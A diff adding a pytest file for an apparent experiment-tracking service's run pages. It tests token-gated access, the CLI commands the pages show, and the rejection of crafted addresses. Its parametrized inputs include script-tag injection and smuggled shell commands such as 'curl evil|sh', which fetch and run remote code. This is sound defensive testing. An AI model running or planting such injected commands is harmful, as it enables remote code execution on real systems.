@@ -1,0 +1,78 @@
+"""The pages behind printed links: what they tell to whom."""
+
+from html.parser import HTMLParser
+
+import pytest
+
+
+def text_of(answer) -> str:
+    """What a browser shows of a page."""
+    pieces: list[str] = []
+    parser = HTMLParser()
+    parser.handle_data = pieces.append
+    parser.feed(answer.body.decode())
+    return "\n".join(pieces)
+
+
+@pytest.fixture
+def run(ask) -> str:
+    """A run of the experiment `secret-plan`."""
+    path = "/api/v1/workspaces/default/interactive-runs"
+    return ask("POST", path, {"experiment": "secret-plan"}).json["id"]
+
+
+def test_a_page_without_a_token_shows_no_more_than_its_address(ask, run):
+    """The command to type is there, the run's data are not, nor whether there is such a run."""
+    page = ask("GET", f"/runs/default/{run}", Authorization="")
+    assert page.status == 200
+    assert f"runyard runs show {run}" in text_of(page)
+    assert "secret-plan" not in text_of(page)
+    other = ask("GET", "/runs/default/none-of-ours", Authorization="")
+    assert other.status == 200
+    assert page.body.replace(run.encode(), b"none-of-ours") == other.body
+
+
+def test_a_page_with_a_token_says_how_the_run_is(ask, run):
+    """Experiment and status; a wrong token gets nothing."""
+    text = text_of(ask("GET", f"/runs/default/{run}"))
+    assert "secret-plan" in text
+    assert "Running" in text
+    refused = ask("GET", f"/runs/default/{run}", Authorization="Bearer wrong")
+    assert refused.status == 401
+    assert b"secret-plan" not in refused.body
+    assert ask("GET", "/runs/default/none-of-ours").status == 404
+
+
+def test_the_command_names_the_workspace(ask):
+    """Only where it is not the default one, which needs no option."""
+    page = ask("GET", "/runs/team-a/r1", Authorization="")
+    assert "runyard runs show r1 --workspace team-a" in text_of(page)
+    assert "--workspace" not in text_of(ask("GET", "/runs/default/r1", Authorization=""))
+    page = ask("GET", "/workspaces/team-a/experiments/e1", Authorization="")
+    assert "runyard runs list -e e1 --workspace team-a" in text_of(page)
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/runs/default/%3Cscript%3E",
+        "/runs/%3Cscript%3E/r1",
+        "/runs/default/r1;curl%20evil|sh",
+        "/runs/default/r1%0Acurl%20evil",
+        "/runs/default/--help",
+        "/workspaces/default/experiments/%24(evil)",
+    ],
+)
+def test_no_address_makes_a_page_with_a_harmful_command(ask, path):
+    """A link that somebody sends shows no markup and nothing that a shell would run."""
+    page = ask("GET", path, Authorization="")
+    assert page.status == 404
+    assert b"<script" not in page.body
+    assert b"evil" not in page.body
+    assert "default-src 'none'" in page.headers["Content-Security-Policy"]
+
+
+def test_the_front_page_and_the_printed_link_to_the_documentation_are_there(ask):
+    """They explain themselves without a token."""
+    for path in ("/", "/docs"):
+        assert b"Runyard" in ask("GET", path, Authorization="").body
